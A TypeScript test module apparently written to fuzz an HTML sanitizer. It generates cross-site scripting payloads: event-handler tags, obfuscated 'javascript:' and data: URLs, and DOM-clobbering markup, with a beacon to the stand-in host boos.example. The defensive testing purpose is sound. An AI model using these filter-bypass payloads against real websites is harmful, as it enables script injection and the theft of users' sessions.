/**
 * What attacks are made of: handlers on tags, addresses that are scripts, names that take the place of others.
 * Markup that parses anew is in `hostile-markup.ts`, whole pages are in `hostile-pages.ts`.
 *
 * Compared on 2026-11-27, vector by vector, with cure53/H5SC (143 vectors) and PortSwigger/xss-cheatsheet-data
 * (all of its lists). A shape is a tag, an attribute, an event, a scheme, an encoding, a nesting, a change of
 * namespace or a way to spell a script; each is here once, as a value that is drawn. Left out: a second spelling
 * of a shape that is here; what only ever leaves the page (a page that has gone is not read); gadgets that need
 * a library of theirs; mechanisms of dead browsers beyond one example each; what kills the browser (endless work).
 */
import fc from 'fast-check';

/** Code that says who it is, with a number of its own at each call: what may run of two places shows apart. */
export type Say = () => string;

let payload = 0;
/** Numbers from one again, so that the same seed makes the same pages. */
export const restartNumbers = (): void => {
  payload = 0;
};
export const nextNumber = (): number => ++payload;

/** Without a space, so that it can stand in an attribute without quotes. */
export const run = (id: number): string => `window.__x?__x(${id}):(new(Image)).src='http://boos.example/ran?${id}'`;
export const quoted = (code: string): string => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
export const say: Say = () => run(nextNumber());
/** For between single quotes. */
export const ticked = (code: string): string => code.replaceAll("'", '`');
export const base64 = (text: string): string => Buffer.from(text).toString('base64');
export const percent = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27');
/** A payload is told by its number in the page's text: one that is encoded has it beside it. */
export const told = (html: string, ...ids: number[]): string => `${html}<!--${ids.map((id) => `(${id})`).join('')}-->`;
/** Words divided by white space. */
export const words = (text: string): string[] => text.trim().split(/\s+/);

/** Handlers that fire without a user, and some that do not: nothing of ours may make them. */
const HANDLERS = words(`
  onload onerror onabort onloadstart onloadend onloadeddata onloadedmetadata onprogress onsuspend onstalled onemptied
  oncanplay oncanplaythrough ondurationchange onplay onplaying onpause onwaiting onseeking onseeked onended
  onratechange ontimeupdate onvolumechange oncuechange onencrypted
  onfocus onfocusin onfocusout onblur onactivate ondeactivate
  onclick ondblclick onauxclick oncontextmenu onshow
  onmousedown onmouseup onmouseenter onmouseleave onmousemove onmouseout onmouseover onmousewheel onwheel
  onpointerdown onpointerup onpointerenter onpointerleave onpointermove onpointerout onpointerover
  onpointercancel onpointerrawupdate ongotpointercapture onlostpointercapture
  ontouchstart ontouchend ontouchmove ontouchcancel ongesturestart ongesturechange ongestureend
  onkeydown onkeypress onkeyup
  ondrag ondragstart ondragend ondragenter ondragexit ondragleave ondragover ondrop
  oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste
  oninput onbeforeinput onchange oninvalid onreset onsubmit onformdata onsearch onselect onselectstart
  onselectionchange oncancel onclose oncommand ontoggle onbeforetoggle onbeforematch onslotchange
  onscroll onscrollend onscrollsnapchange onscrollsnapchanging oncontentvisibilityautostatechange
  onanimationstart onanimationend onanimationiteration onanimationcancel
  onwebkitanimationstart onwebkitanimationend onwebkitanimationiteration
  ontransitionrun ontransitionstart ontransitionend ontransitioncancel onwebkittransitionend
  onbegin onend onrepeat onstart onfinish onbounce
  onpageshow onpagehide onpagereveal onpageswap onbeforeunload onunload onhashchange onpopstate onresize
  onmessage onmessageerror onstorage onoffline ononline onlanguagechange onvisibilitychange
  onunhandledrejection onrejectionhandled onsecuritypolicyviolation onbeforeprint onafterprint
  ondevicemotion ondeviceorientation ondeviceorientationabsolute onorientationchange
  onbeforescriptexecute onafterscriptexecute onreadystatechange onpropertychange onfilterchange
  onforminput onformchange ontimer onqt_error
  onfullscreenchange onfullscreenerror onmozfullscreenchange onwebkitfullscreenchange
  onwebkitpresentationmodechanged onwebkitplaybacktargetavailabilitychanged
  onwebkitmouseforcechanged onwebkitmouseforcewillbegin onwebkitmouseforceup onwebkitmouseforcedown
  onwebkitwillrevealbottom`);

/** Tags that load, play, move or open by themselves: drawn as often as all the others together. */
const LIVELY = words(`
  img svg video audio iframe object embed details input body math marquee a span table isindex x-own picture source
  link style template slot dialog`);
const TAGS = words(`
  abbr acronym address applet area article aside b bdi bdo bgsound big blink blockquote br button canvas caption
  center cite code col colgroup command comment content data datalist dd del dfn dir discard div dl dt element em
  event-source fieldset figcaption figure font footer form frame frameset h1 head header hgroup hr html i image ins
  kbd keygen label layer legend li listing main map mark menu menuitem meta meter multicol nav nextid nobr noembed
  noframes noscript ol optgroup option output p param plaintext pre progress q rb rp rt rtc ruby s samp script
  section select shadow small spacer strike strong sub summary sup tbody td textarea tfoot th thead time title tr
  track tt u ul var wbr xml xmp
  animate animateMotion animateTransform set g use text foreignObject path feImage handler listener maction mtext`);

/** On `<body>` and `<html>` these are events of the window: which of two browsers has the focus or the pointer decides, not we. */
const OF_WINDOW = /^on(focus|blur|scroll|resize|selection|mouse|pointer|wheel|visibility|(de)?activate)/;

/** What some of the handlers wait for. */
const STATES = [
  '',
  '',
  '',
  'open',
  'popover',
  'contenteditable',
  'draggable=true',
  'hidden=until-found',
  'controls autoplay loop muted',
  'accesskey=x',
  'type=hidden accesskey=x',
  'type=image',
  'type=range',
  'is=x-own',
  'contextmenu=q',
  'default kind=subtitles',
  'attributeName=x dur=.05s repeatCount=2',
  'behavior=alternate width=1 loop=1',
  'style="animation:q .05s 2"',
  'style="display:block;content-visibility:auto"',
  'style="overflow-y:hidden;scroll-snap-type:x"',
  'class="carousel slide progress-bar-animated" data-ride=carousel data-interval=100',
];

/** How the tag is written: what is between its name and its attributes, and between these. */
const GAPS = [' ', ' ', ' ', ' ', '/', '\n', '\t', '\f', ' / ', ' \r\n'];

export const handlerTag = fc
  .record({
    tag: fc.oneof(fc.constantFrom(...LIVELY), fc.constantFrom(...TAGS)),
    handlers: fc.subarray(HANDLERS, { minLength: 1, maxLength: 30 }),
    src: fc.constantFrom('x:y', 'data:,', '//boos.example/none', '', 'data:text/vtt,WEBVTT', ',,,,,x'),
    state: fc.constantFrom(...STATES),
    gap: fc.constantFrom(...GAPS),
    closed: fc.integer({ min: 0, max: 3 }),
  })
  .map(({ tag, handlers, src, state, gap, closed }) => {
    const calls = handlers
      .filter((one) => (tag !== 'body' && tag !== 'html') || !OF_WINDOW.test(one))
      .map((one) => `${one}="${quoted(say())}"`);
    const open = `<${[tag, ...calls, `src="${src}"`, `href="${src}"`, `srcset="${src}"`, state, 'tabindex=0'].filter(Boolean).join(gap)}>`;
    return closed ? `${open}Jack Ma</${tag}>` : open;
  });

/** A tag with its attribute that takes an address. */
const PLACES = `a href|iframe src|form action|object data|embed src|img src|base href|link rel=canonical href|blockquote cite|
  a xlink:href|video poster|img srcset|button formaction|area href|input type=image src|input type=submit formaction|
  isindex type=submit action|isindex type=submit formaction|table background|td background|body background|
  embed code|embed codebase|object codebase|object classid|object archive|applet code|param name=url value|
  link rel=stylesheet href|link rel=import href|link rel=icon href|link rel=preload as=script href|
  link rel=stylesheet type=text/javascript href|link rel=manifest href|frame src|script src|script type=module src|
  math href|math xlink:href|mtext href|x-own href|x-own xlink:href|source src|source srcset|track default src|audio src|
  video src|image src|image href|use href|feImage xlink:href|animation xlink:href|foreignObject xlink:href|
  ins cite|q cite|del cite|img longdesc|img usemap|img dynsrc|img lowsrc|html manifest|bgsound src|layer src|
  xml src|event-source src|vmlframe src|a ping|a target|base target|form target|area target|a folder|iframe name|
  a href=x: download|input dirname|object name|embed name|a data-href|handler ev:event=load ev:handler|x-own xlink:actuate=onLoad xlink:type=simple xlink:href`
  .split('|')
  .map((place) => place.trim());

type Scheme = (code: string) => string;
const markup = (code: string): string => `<script>${code}</script>`;
const image = (code: string): string => `<svg xmlns='http://www.w3.org/2000/svg' id='x'><script>${ticked(code)}</script></svg>`;
const SCHEMES: Scheme[] = [
  (code) => `javascript:${code}`,
  (code) => ` java\tscript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `data:text/html,${markup(code)}`,
  (code) => `data:text/html;base64,${base64(markup(code))}`,
  (code) => `data:text/html;charset=utf-7,+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `data:text/javascript,${code}`,
  (code) => `data:text/javascript;base64,${base64(code)}`,
  (code) => `data:image/svg+xml,${image(code)}#x`,
  (code) => `data:image/svg+xml;base64,${base64(image(code))}#x`,
  (code) => `data:text/css,*{x:expression(${code})}`,
  (code) => `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${ticked(code)}</x:script>`,
  (code) => `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml' onload='${ticked(code)}'/>`,
  (code) => `data:,${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript://x.example/&NewLine;${code}`,
  (code) => `javascript:${percent(code)}`,
  (code) => `javascript:x='&percnt;27-(${ticked(code)})-%27'`,
  (code) => `javascript:/a/-(${code})///////`,
  (code) => `javascript:"<svg onload=${code}>"`,
  ...words(
    'vbscript: vbs: livescript: mocha: jscript: jscript.compact: blob: filesystem: feed:javascript: view-source:javascript: jar: mhtml: about: ms-its: x:',
  ).map(
    (scheme): Scheme =>
      (code) =>
        scheme + code,
  ),
];

/** "javascript:" as the parser of HTML and that of addresses still read it, and as they nearly do. */
const spelt = fc
  .tuple(
    fc.oneof(
      fc.constantFrom('', '', '\n', ' \t', '&Tab;', '&NewLine;', '%09', '%20', '\u0001', '&nbsp;', '\u0000'),
      fc.integer({ min: 1, max: 32 }).map((code) => `&#${code};`),
      fc.integer({ min: 1, max: 32 }).map((code) => `&#x${code.toString(16)};`),
    ),
    fc.constantFrom(
      'javascript',
      '&#106;avascript',
      '&#106avascript',
      '&#0000106avascript',
      '&#x6a;avascript',
      '&#X6A;avascript',
      '&#x0000006a;avascript',
      'j&#x61vascript',
      '&\u0000#x6a;avascript',
      'java\nscript',
      'java\r\nscript',
      'java&Tab;script',
      'java&NewLine;script',
      'java&#x00000000000009;script',
      'java&#9script',
      'java\u0000script',
      'java&#173;script',
      'ｊavascript',
      'java/**/script',
    ),
    fc.constantFrom(':', ':', '&colon;', '&#58;', '&#58', '&#x3a;', '\n:', '\t:', '&Tab;:', '&\u0000colon\u0000;', '%3A', '：'),
  )
  .map(
    (parts): Scheme =>
      (code) =>
        parts.join('') + code,
  );

export const scriptAddress = fc
  .tuple(fc.constantFrom(...PLACES), fc.oneof(fc.constantFrom(...SCHEMES), spelt), fc.constantFrom('"', '"', "'"))
  // An iframe whose address is a script runs it as the page's own: what counts is that we add nothing.
  .map(([where, scheme, quote]) => {
    const id = nextNumber();
    const address = scheme(run(id))
      .replaceAll('"', '&quot;')
      .replaceAll("'", quote === "'" ? '&#39;' : "'");
    return told(`<${where}=${quote}${address}${quote}>Ant Group</${where.split(' ')[0]}>`, id);
  });

/** Names of the document, of elements and of the window that a script may ask for and an element may take. */
const NAMES = words(`
  body head attributes children childNodes parentNode nodeName tagName textContent cloneNode querySelector
  querySelectorAll getAttribute setAttribute documentElement firstChild nodeType ownerDocument contains remove title
  createElement URL baseURI cookie implementation defaultView classList style id className innerHTML __proto__
  constructor toString chrome browser CSS Highlight getComputedStyle location
  frames all scripts forms images links embeds plugins anchors config url object embed select value table html base
  frame stylesheet element progress tpl host form length item namedItem nodeValue parentElement nextSibling lastChild
  outerHTML hasAttribute removeAttribute append replaceWith dataset isConnected getRootNode addEventListener
  dispatchEvent matches closest shadowRoot adoptNode importNode createTreeWalker createRange getElementsByTagName
  getElementById currentScript readyState domain referrer lang dir hidden onclick self top parent name window document
  localStorage indexedDB customElements valueOf hasOwnProperty then kind nodes getSelection elementFromPoint
  activeElement scrollingElement fonts adoptedStyleSheets contentType characterSet`);
const NAMED = words(`
  form iframe object embed img a div span meta script template slot select textarea base table progress html body link
  input label fieldset output map button x-own`);

export const clobbering = fc.oneof(
  fc
    .tuple(fc.constantFrom(...NAMES), fc.constantFrom(...NAMES), fc.boolean())
    .map(
      ([form, field, also]) =>
        `<form name="${form}" id="${field}"><input name="${field}"><input name="${form}"><img name="${field}">${also ? `<a id="${form}"></a><a id="${form}" name="${field}" href="x:y"></a>` : ''}</form>`,
    ),
  // Elements of any kind, two of a name (a collection), one in another, a payload where their text would be.
  fc
    .tuple(fc.constantFrom(...NAMED), fc.constantFrom(...NAMES), fc.constantFrom(...NAMES))
    .map(
      ([tag, name, inner]) =>
        `<${tag} id="${name}" name="${name}" value="javascript:${say()}" data="javascript:${say()}" slot="${inner}"></${tag}><${tag} id="${name}" name="${inner}" title="${say()}"><a id="${inner}" href="javascript:${say()}">Jack Ma</a><img id="${inner}" src=x:y onerror="${say()}"></${tag}>`,
    ),
  fc
    .tuple(fc.constantFrom(...NAMES), fc.constantFrom(...NAMES))
    .map(
      ([name, inner]) =>
        `<iframe name="${name}" srcdoc="<a id='${inner}' href='javascript:${ticked(say())}'></a><iframe name='${inner}'></iframe>"></iframe>`,
    ),
);
